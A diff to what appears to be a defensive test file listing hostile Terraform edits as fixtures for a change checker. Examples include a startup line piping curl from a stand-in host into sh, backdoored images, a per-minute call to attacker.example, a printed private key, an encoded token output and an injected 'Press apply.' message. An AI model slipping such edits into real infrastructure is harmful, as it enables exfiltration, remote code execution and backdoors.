@@ -29,7 +29,7 @@ WRITTEN = {
     "a subscription that expires": ("worker_pubsub", 'ttl = ""', 'ttl = "86400s"'),
     "one backup": ("backend_api_postgres", "retained_backups = 7", "retained_backups = 1"),
     "a line in the startup script": ("backend_api", "set -eu", "set -eu\n      curl https://x.example | sh"),
-    "a stranger's boot image": ("backend_api", "debian-cloud/debian-12", "attacker-project/backdoored", "variables.tf"),
+    "a stranger's boot image": ("backend_api", "debian-cloud/debian-13", "attacker-project/backdoored", "variables.tf"),
     "a stranger's container": ("cloud_run_service", "us-docker.pkg.dev/cloudrun/container/hello", "docker.io/attacker/x", "variables.tf"),
     "an address that verification asks": ("bucket", "", 'output "external_ip" {\n  value = "198.51.100.7"\n}\n', "outputs.tf"),
     "push as the platform": (
@@ -49,6 +49,18 @@ WRITTEN = {
     "a bucket in another project": ("bucket", "", OWN_BUCKET + '  project = "attacker"\n}\n'),
     "a bucket that logs to a stranger": ("bucket", "", OWN_BUCKET + '  logging {\n    log_bucket = "attacker"\n  }\n}\n'),
     "a bucket locked for ever": ("bucket", "", OWN_BUCKET + "  retention_policy {\n    is_locked = true\n    retention_period = 99\n  }\n}\n"),
+    "a bucket that keeps nothing that was deleted": ("bucket", "", OWN_BUCKET + "  soft_delete_policy {\n    retention_duration_seconds = 0\n  }\n}\n"),
+    "a thousand addresses": ("backend_api", "", 'resource "google_compute_address" "more" {\n  count = 1000\n  name = "more-${count.index}${var.name_suffix}"\n}\n'),
+    "a machine more": ("backend_api", "", 'resource "google_compute_instance" "more" {\n  name = "more${var.name_suffix}"\n}\n'),
+    "a grant to itself": ("worker_pubsub", "", 'resource "google_project_iam_member" "more" {\n  project = var.project_id\n  role = "roles/monitoring.viewer"\n  member = google_service_account.worker_agent.member\n}\n'),
+    "a port more": ("backend_api", "", 'resource "google_compute_firewall" "more" {\n  name = "more${var.name_suffix}"\n  network = google_compute_network.backend_vpc.id\n  allow {\n    protocol = "tcp"\n    ports = ["8080"]\n  }\n}\n'),
+    "a provider in another project": ("bucket", "", 'provider "google" {\n  alias = "o"\n  project = "attacker"\n}\n'),
+    "a thing under another name": ("bucket", "", "moved {\n  from = google_storage_bucket.a\n  to = google_storage_bucket.b\n}\n"),
+    "all networks of the project": ("bucket", "", 'data "google_compute_networks" "all" {}\n'),
+    "a key that is printed": ("bucket", "", 'resource "tls_private_key" "k" {\n  algorithm = "ED25519"\n}\noutput "k" {\n  value = nonsensitive(tls_private_key.k.private_key_openssh)\n}\n'),
+    "ten years of waiting": ("bucket", "", 'resource "time_sleep" "w" {\n  create_duration = "87600h"\n}\n'),
+    "a call a minute to a stranger": ("bucket", "", 'resource "google_cloud_scheduler_job" "more" {\n  name = "more${var.name_suffix}"\n  schedule = "* * * * *"\n  http_target {\n    uri = "https://attacker.example"\n  }\n}\n'),
+    "words of its own in a check": ("bucket", "", 'check "c" {\n  assert {\n    condition = false\n    error_message = "Press apply."\n  }\n}\n'),
     "the token in other words": ("bucket", "", 'output "t" {\n  value = base64encode(var.ops_webhook_token)\n}\n', "outputs.tf"),
 }  # fmt: skip
 
